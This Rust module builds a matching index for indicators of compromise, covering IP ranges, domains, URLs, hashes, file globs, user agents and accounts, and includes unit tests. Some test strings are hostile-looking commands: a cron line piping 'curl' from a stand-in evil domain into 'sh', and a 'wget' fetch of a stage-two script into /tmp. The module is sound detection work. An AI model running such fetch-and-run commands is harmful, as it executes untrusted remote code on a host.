//! A loaded indicator set compiled for matching (`detect::ioc::index`).
//!
//! Each question costs a few hash lookups whatever the size of the lists:
//! an address is looked up exactly and then once per CIDR prefix length
//! the lists use; a host name once per label suffix (`a.b.evil.example`,
//! `b.evil.example`, `evil.example`), so a listed domain matches its
//! subdomains; a URL by `host/path?query` and, when the indicator names
//! no query, by `host/path`. File names and paths are matched by one
//! `globset` set each; user agents (contained, case blind) and the strings
//! of text (domains, addresses, URLs, emails) by one Aho-Corasick automaton
//! each, every hit checked for the boundaries of its type so that
//! `evil.example` is found in `x.evil.example/a` but not in
//! `notevil.example` or `evil.example.org`.
//!
//! Case: domains, emails, hashes, URL hosts and user agents are matched
//! case blind; URL paths and queries, account names, file names and paths
//! exactly (as the examined Linux system compares them).

use super::parse::{self, UrlParts};
use super::{Indicator, IocKind};
use aho_corasick::{AhoCorasick, MatchKind};
use globset::{GlobBuilder, GlobSet, GlobSetBuilder};
use ipnet::IpNet;
use std::net::IpAddr;

type Map<K, V> = foldhash::HashMap<K, V>;

/// The compiled matchers of an [`super::IocSet`].
#[derive(Debug, Default)]
pub struct Index {
    ips: Map<IpAddr, u32>,
    v4_nets: Map<(u8, u32), Vec<u32>>,
    v4_lens: Vec<u8>,
    v6_nets: Map<(u8, u128), Vec<u32>>,
    v6_lens: Vec<u8>,
    domains: Map<String, u32>,
    urls: Map<String, u32>,
    md5: Map<[u8; 16], u32>,
    sha1: Map<[u8; 20], u32>,
    sha256: Map<[u8; 32], u32>,
    names: Option<(GlobSet, Vec<u32>)>,
    paths: Option<(GlobSet, Vec<u32>)>,
    emails: Map<String, u32>,
    accounts: Map<String, u32>,
    agents: Option<(AhoCorasick, Vec<u32>)>,
    strings: Option<Strings>,
    /// IPv4-looking tokens of text, checked against the ranges.
    ipv4_token: Option<regex::bytes::Regex>,
}

#[derive(Debug)]
struct Strings {
    ac: AhoCorasick,
    pats: Vec<StrPat>,
    /// Each pattern as written in the automaton.
    texts: Vec<String>,
}

#[derive(Debug, Clone, Copy)]
struct StrPat {
    ind: u32,
    kind: StrKind,
    /// Bytes from which the match must be exact (a URL's path), else the
    /// pattern's length.
    exact_from: usize,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum StrKind {
    Domain,
    Ipv4,
    Ipv6,
    Url,
    Email,
}

fn glob_set(globs: &[(u32, &str)]) -> Option<(GlobSet, Vec<u32>)> {
    if globs.is_empty() {
        return None;
    }
    let mut b = GlobSetBuilder::new();
    let mut ids = Vec::new();
    for (i, g) in globs {
        // Checked when the list was read; a glob that fails here is left out.
        if let Ok(glob) = GlobBuilder::new(g).literal_separator(true).build() {
            b.add(glob);
            ids.push(*i);
        }
    }
    b.build().ok().map(|s| (s, ids))
}

fn automaton(pats: &[&str]) -> Option<AhoCorasick> {
    if pats.is_empty() {
        return None;
    }
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .match_kind(MatchKind::Standard)
        .build(pats)
        .ok()
}

impl Index {
    /// Compile the indicators (index `i` of the slice is indicator `i`).
    pub fn build(inds: &[Indicator]) -> Self {
        let mut x = Index::default();
        let mut names: Vec<(u32, &str)> = Vec::new();
        let mut paths: Vec<(u32, &str)> = Vec::new();
        let mut agents: Vec<(u32, &str)> = Vec::new();
        let mut strings: Vec<(StrPat, String)> = Vec::new();
        for (i, ind) in inds.iter().enumerate() {
            let i = i as u32;
            let v = ind.value.as_str();
            match ind.kind {
                IocKind::Ip => {
                    if let Some(a) = parse::ip(v) {
                        x.ips.insert(a, i);
                        let kind = if a.is_ipv4() {
                            StrKind::Ipv4
                        } else {
                            StrKind::Ipv6
                        };
                        strings.push((
                            StrPat {
                                ind: i,
                                kind,
                                exact_from: v.len(),
                            },
                            v.to_string(),
                        ));
                    }
                }
                IocKind::Cidr => match v.parse::<IpNet>() {
                    Ok(IpNet::V4(n)) => {
                        let l = n.prefix_len();
                        x.v4_nets
                            .entry((l, u32::from(n.network())))
                            .or_default()
                            .push(i);
                        if !x.v4_lens.contains(&l) {
                            x.v4_lens.push(l);
                        }
                    }
                    Ok(IpNet::V6(n)) => {
                        let l = n.prefix_len();
                        x.v6_nets
                            .entry((l, u128::from(n.network())))
                            .or_default()
                            .push(i);
                        if !x.v6_lens.contains(&l) {
                            x.v6_lens.push(l);
                        }
                    }
                    Err(_) => {}
                },
                IocKind::Domain => {
                    x.domains.insert(v.to_string(), i);
                    strings.push((
                        StrPat {
                            ind: i,
                            kind: StrKind::Domain,
                            exact_from: v.len(),
                        },
                        v.to_string(),
                    ));
                }
                IocKind::Url => {
                    x.urls.insert(v.to_string(), i);
                    let host_len = v.find(['/', '?']).unwrap_or(v.len());
                    strings.push((
                        StrPat {
                            ind: i,
                            kind: StrKind::Url,
                            exact_from: host_len,
                        },
                        v.to_string(),
                    ));
                }
                IocKind::Md5 => {
                    let mut h = [0u8; 16];
                    if hex::decode_to_slice(v, &mut h).is_ok() {
                        x.md5.insert(h, i);
                    }
                }
                IocKind::Sha1 => {
                    let mut h = [0u8; 20];
                    if hex::decode_to_slice(v, &mut h).is_ok() {
                        x.sha1.insert(h, i);
                    }
                }
                IocKind::Sha256 => {
                    let mut h = [0u8; 32];
                    if hex::decode_to_slice(v, &mut h).is_ok() {
                        x.sha256.insert(h, i);
                    }
                }
                IocKind::FileName => names.push((i, v)),
                IocKind::Path => paths.push((i, v)),
                IocKind::UserAgent => agents.push((i, v)),
                IocKind::Email => {
                    x.emails.insert(v.to_string(), i);
                    strings.push((
                        StrPat {
                            ind: i,
                            kind: StrKind::Email,
                            exact_from: v.len(),
                        },
                        v.to_string(),
                    ));
                }
                IocKind::Account => {
                    x.accounts.insert(v.to_string(), i);
                }
            }
        }
        x.v4_lens.sort_unstable();
        x.v6_lens.sort_unstable();
        x.names = glob_set(&names);
        x.paths = glob_set(&paths);
        let agent_pats: Vec<&str> = agents.iter().map(|a| a.1).collect();
        x.agents = automaton(&agent_pats).map(|ac| (ac, agents.iter().map(|a| a.0).collect()));
        let string_pats: Vec<&str> = strings.iter().map(|s| s.1.as_str()).collect();
        x.strings = automaton(&string_pats).map(|ac| Strings {
            ac,
            pats: strings.iter().map(|s| s.0).collect(),
            texts: strings.iter().map(|s| s.1.clone()).collect(),
        });
        if !x.v4_lens.is_empty() {
            x.ipv4_token = regex::bytes::Regex::new(r"(?-u)[0-9]{1,3}(?:\.[0-9]{1,3}){3}").ok();
        }
        x
    }

    /// True when some hash indicator needs the MD5 of files.
    pub fn wants_md5(&self) -> bool {
        !self.md5.is_empty()
    }

    /// True when some hash indicator needs the SHA-1 of files.
    pub fn wants_sha1(&self) -> bool {
        !self.sha1.is_empty()
    }

    /// True when text may hold a listed string (domains, addresses, URLs,
    /// emails, ranges).
    pub fn wants_text(&self) -> bool {
        self.strings.is_some() || self.ipv4_token.is_some()
    }

    /// True when file names or paths are listed.
    pub fn wants_names(&self) -> bool {
        self.names.is_some() || self.paths.is_some()
    }

    pub fn sha256(&self, h: &[u8; 32]) -> Option<u32> {
        self.sha256.get(h).copied()
    }

    pub fn md5(&self, h: &[u8; 16]) -> Option<u32> {
        self.md5.get(h).copied()
    }

    pub fn sha1(&self, h: &[u8; 20]) -> Option<u32> {
        self.sha1.get(h).copied()
    }

    /// Listed addresses and ranges holding `a`.
    pub fn ip_hits(&self, a: IpAddr, out: &mut Vec<u32>) {
        let a = parse::canonical_ip(a);
        if let Some(&i) = self.ips.get(&a) {
            out.push(i);
        }
        match a {
            IpAddr::V4(v4) => {
                let x = u32::from(v4);
                for &l in &self.v4_lens {
                    let m = if l == 0 {
                        0
                    } else {
                        x & (u32::MAX << (32 - l))
                    };
                    if let Some(v) = self.v4_nets.get(&(l, m)) {
                        out.extend_from_slice(v);
                    }
                }
            }
            IpAddr::V6(v6) => {
                let x = u128::from(v6);
                for &l in &self.v6_lens {
                    let m = if l == 0 {
                        0
                    } else {
                        x & (u128::MAX << (128 - l))
                    };
                    if let Some(v) = self.v6_nets.get(&(l, m)) {
                        out.extend_from_slice(v);
                    }
                }
            }
        }
    }

    /// Listed domains `host` is or is under; an address goes to
    /// [`Self::ip_hits`]. `scratch` is reused between calls.
    pub fn host_hits(&self, host: &str, scratch: &mut String, out: &mut Vec<u32>) {
        let host = host.trim().trim_end_matches('.');
        if host.is_empty() {
            return;
        }
        if let Some(a) = parse::ip(host) {
            self.ip_hits(a, out);
            return;
        }
        if self.domains.is_empty() {
            return;
        }
        scratch.clear();
        scratch.push_str(host);
        scratch.make_ascii_lowercase();
        let mut s: &str = scratch;
        // Every suffix with at least two labels.
        while let Some(dot) = s.find('.') {
            if let Some(&i) = self.domains.get(s) {
                out.push(i);
            }
            s = &s[dot + 1..];
        }
    }

    /// Listed URLs equal to `u` (an indicator without a query matches the
    /// URL with any query), and listed domains of its host.
    pub fn url_hits(&self, u: &UrlParts, scratch: &mut String, out: &mut Vec<u32>) {
        if !self.urls.is_empty() {
            if u.query.is_some()
                && let Some(&i) = self.urls.get(&u.key())
            {
                out.push(i);
            }
            let bare = format!("{}{}", u.host, u.path);
            if let Some(&i) = self.urls.get(&bare) {
                out.push(i);
            }
        }
        self.host_hits(u.hostname(), scratch, out);
    }

    /// Listed user agents contained in `agent` (case blind).
    pub fn agent_hits(&self, agent: &str, out: &mut Vec<u32>) {
        if let Some((ac, ids)) = &self.agents {
            for m in ac.find_overlapping_iter(agent) {
                if let Some(&i) = ids.get(m.pattern().as_usize()) {
                    out.push(i);
                }
            }
        }
    }

    /// Listed accounts equal to `user`, and listed emails equal to it
    /// (case blind).
    pub fn user_hits(&self, user: &str, out: &mut Vec<u32>) {
        if let Some(&i) = self.accounts.get(user) {
            out.push(i);
        }
        if !self.emails.is_empty()
            && user.contains('@')
            && let Some(&i) = self.emails.get(&user.to_lowercase())
        {
            out.push(i);
        }
    }

    /// Listed file names (matched against the last component) and paths
    /// (against the whole logical path) matching `path`.
    pub fn name_hits(&self, path: &str, buf: &mut Vec<usize>, out: &mut Vec<u32>) {
        let name = path.rsplit('/').next().unwrap_or(path);
        if let Some((set, ids)) = &self.names
            && !name.is_empty()
        {
            set.matches_into(name, buf);
            out.extend(buf.iter().filter_map(|&k| ids.get(k)));
        }
        if let Some((set, ids)) = &self.paths {
            set.matches_into(path, buf);
            out.extend(buf.iter().filter_map(|&k| ids.get(k)));
        }
    }

    /// Every listed string in `hay` (domains, addresses and ranges, URLs,
    /// emails), at the boundaries of its type: `f(indicator, start, end)`.
    pub fn text_hits(&self, hay: &[u8], mut f: impl FnMut(u32, usize, usize)) {
        if let Some(st) = &self.strings {
            for m in st.ac.find_overlapping_iter(hay) {
                let k = m.pattern().as_usize();
                let (Some(p), Some(text)) = (st.pats.get(k), st.texts.get(k)) else {
                    continue;
                };
                let (s, e) = (m.start(), m.end());
                if bounded(hay, s, e, p.kind) && exact_tail(hay, s, e, p, text) {
                    f(p.ind, s, e);
                }
            }
        }
        if let Some(re) = &self.ipv4_token {
            let mut hits = Vec::new();
            for m in re.find_iter(hay) {
                if !bounded(hay, m.start(), m.end(), StrKind::Ipv4) {
                    continue;
                }
                let Some(a) = std::str::from_utf8(m.as_bytes())
                    .ok()
                    .and_then(|t| t.parse::<std::net::Ipv4Addr>().ok())
                else {
                    continue;
                };
                hits.clear();
                let x = u32::from(a);
                for &l in &self.v4_lens {
                    let k = if l == 0 {
                        0
                    } else {
                        x & (u32::MAX << (32 - l))
                    };
                    if let Some(v) = self.v4_nets.get(&(l, k)) {
                        hits.extend_from_slice(v);
                    }
                }
                for &i in &hits {
                    f(i, m.start(), m.end());
                }
            }
        }
    }
}

/// Part of a host name: a match next to one is part of a longer name.
fn word(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'-' || b == b'_' || b >= 0x80
}

/// Part of a URL path: a URL followed by one continues.
fn url_char(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b"-._~/%+=@:!$*".contains(&b) || b >= 0x80
}

/// Whether `hay[s..e]` stands alone as a value of its kind.
fn bounded(hay: &[u8], s: usize, e: usize, kind: StrKind) -> bool {
    let before = s.checked_sub(1).and_then(|i| hay.get(i)).copied();
    let after = hay.get(e).copied();
    let after2 = hay.get(e + 1).copied();
    // After a host name: not more name, nor `.label`.
    let host_ends = || match after {
        None => true,
        Some(b'.') => !after2.is_some_and(word),
        Some(b) => !word(b),
    };
    match kind {
        StrKind::Domain => !before.is_some_and(word) && host_ends(),
        StrKind::Url => {
            !before.is_some_and(|b| word(b) || b == b'.') && !after.is_some_and(url_char)
        }
        StrKind::Email => {
            !before.is_some_and(|b| b.is_ascii_alphanumeric() || b"._%+-".contains(&b) || b >= 0x80)
                && host_ends()
        }
        StrKind::Ipv4 => {
            // Not part of a longer number or name, nor followed by `.digit`.
            let longer = before.is_some_and(|b| b.is_ascii_alphanumeric() || b == b'.')
                || after.is_some_and(|b| b.is_ascii_alphanumeric())
                || (after == Some(b'.') && after2.is_some_and(|b| b.is_ascii_digit()));
            !longer
        }
        StrKind::Ipv6 => {
            let part = |b: u8| b.is_ascii_hexdigit() || b == b':' || b == b'.';
            !before.is_some_and(part) && !after.is_some_and(part)
        }
    }
}

/// A URL's path and query must match exactly (the automaton is case
/// blind for the host's sake).
fn exact_tail(hay: &[u8], s: usize, e: usize, p: &StrPat, text: &str) -> bool {
    if p.kind != StrKind::Url {
        return true;
    }
    hay.get(s + p.exact_from..e) == text.as_bytes().get(p.exact_from..)
}

#[cfg(test)]
mod tests {
    use super::super::IocSet;
    use super::*;

    fn set(t: &str) -> IocSet {
        IocSet::from_text("t", t).unwrap()
    }

    fn text_values(s: &IocSet, hay: &str) -> Vec<String> {
        let mut v = Vec::new();
        s.index().text_hits(hay.as_bytes(), |i, _, _| {
            v.push(s.get(i).unwrap().value.clone());
        });
        v.sort();
        v.dedup();
        v
    }

    #[test]
    fn addresses_and_ranges() {
        let s = set("203.0.113.7\n198.51.100.0/24\n10.0.0.0/8\n2001:db8::/32\n");
        let mut out = Vec::new();
        s.index()
            .ip_hits("198.51.100.200".parse().unwrap(), &mut out);
        assert_eq!(out.len(), 1);
        out.clear();
        s.index()
            .ip_hits("::ffff:203.0.113.7".parse().unwrap(), &mut out);
        assert_eq!(out.len(), 1, "an IPv4-mapped address is the IPv4 address");
        out.clear();
        s.index()
            .ip_hits("2001:db8:1::5".parse().unwrap(), &mut out);
        assert_eq!(out.len(), 1);
        out.clear();
        s.index().ip_hits("198.51.101.1".parse().unwrap(), &mut out);
        assert!(out.is_empty());
    }

    #[test]
    fn domains_match_subdomains_only() {
        let s = set("evil.example\n");
        let mut out = Vec::new();
        let mut scratch = String::new();
        for (h, want) in [
            ("evil.example", 1),
            ("A.B.Evil.Example.", 1),
            ("notevil.example", 0),
            ("evil.example.org", 0),
            ("example", 0),
        ] {
            out.clear();
            s.index().host_hits(h, &mut scratch, &mut out);
            assert_eq!(out.len(), want, "{h}");
        }
    }

    #[test]
    fn strings_in_text_respect_boundaries_and_case() {
        let s = set(
            "evil.example\n203.0.113.7\nhttp://drop.example/Stage2.sh\nbad@mail.example\n198.51.100.0/24\n",
        );
        assert_eq!(
            text_values(&s, "*/5 * * * * curl -s http://x.EVIL.example/a | sh"),
            ["evil.example"]
        );
        assert!(text_values(&s, "notevil.example evil.example.org evil.examples").is_empty());
        assert_eq!(text_values(&s, "ping 203.0.113.7;"), ["203.0.113.7"]);
        assert!(text_values(&s, "1203.0.113.7 203.0.113.71 203.0.113.7.5").is_empty());
        assert_eq!(
            text_values(&s, "wget hxxp drop.example/Stage2.sh?x=1 -O /tmp/s"),
            ["drop.example/Stage2.sh"]
        );
        assert!(text_values(&s, "https://drop.example/Stage2.shx").is_empty());
        assert_eq!(
            text_values(&s, "MAILTO=Bad@Mail.Example"),
            ["bad@mail.example"]
        );
        assert_eq!(
            text_values(&s, "Allow from 198.51.100.42"),
            ["198.51.100.0/24"]
        );
    }

    #[test]
    fn urls_agents_users_names() {
        let s = set(
            "url:evil.example/gate.php\nua:sqlmap\naccount:deploy2\nemail:x@evil.example\n*.phtml\n/var/www/*/uploads/*.php\n",
        );
        let ix = s.index();
        let mut out = Vec::new();
        let mut scratch = String::new();
        let u = parse::url_parts("http://EVIL.example:80/gate.php?id=1", true).unwrap();
        ix.url_hits(&u, &mut scratch, &mut out);
        assert_eq!(out.len(), 1);
        out.clear();
        let u = parse::url_parts("http://evil.example/Gate.php", true).unwrap();
        ix.url_hits(&u, &mut scratch, &mut out);
        assert!(out.is_empty(), "paths are case sensitive");
        ix.agent_hits("Mozilla/5.0 SQLMap/1.7", &mut out);
        assert_eq!(out.len(), 1);
        out.clear();
        ix.user_hits("deploy2", &mut out);
        ix.user_hits("Deploy2", &mut out);
        ix.user_hits("X@Evil.Example", &mut out);
        assert_eq!(out.len(), 2);
        out.clear();
        let mut buf = Vec::new();
        ix.name_hits("/tmp/a.phtml", &mut buf, &mut out);
        ix.name_hits("/var/www/site/uploads/x.php", &mut buf, &mut out);
        ix.name_hits("/var/www/site/a/uploads/x.php", &mut buf, &mut out);
        assert_eq!(out.len(), 2);
    }
}
